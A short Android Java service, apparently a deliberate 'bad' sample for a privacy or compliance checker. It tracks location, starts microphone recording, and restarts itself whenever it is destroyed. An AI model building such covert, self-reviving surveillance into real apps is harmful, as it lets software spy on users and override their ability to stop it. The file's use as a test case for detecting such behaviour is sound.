package com.example.hegui.bad;

import android.app.Service;
import android.content.Intent;
import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import android.os.IBinder;

/** Never ends; follows the place and listens, in a process of its own. */
public final class KeepAliveService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        Places.follow(this);
        listen();
        return START_STICKY;
    }

    private void listen() {
        AudioRecord ear = new AudioRecord(
                MediaRecorder.AudioSource.MIC, 8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, 4096);
        if (ear.getState() == AudioRecord.STATE_INITIALIZED) {
            ear.startRecording();
        }
    }

    @Override
    public void onDestroy() {
        super.onDestroy();
        startService(new Intent(this, KeepAliveService.class));
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
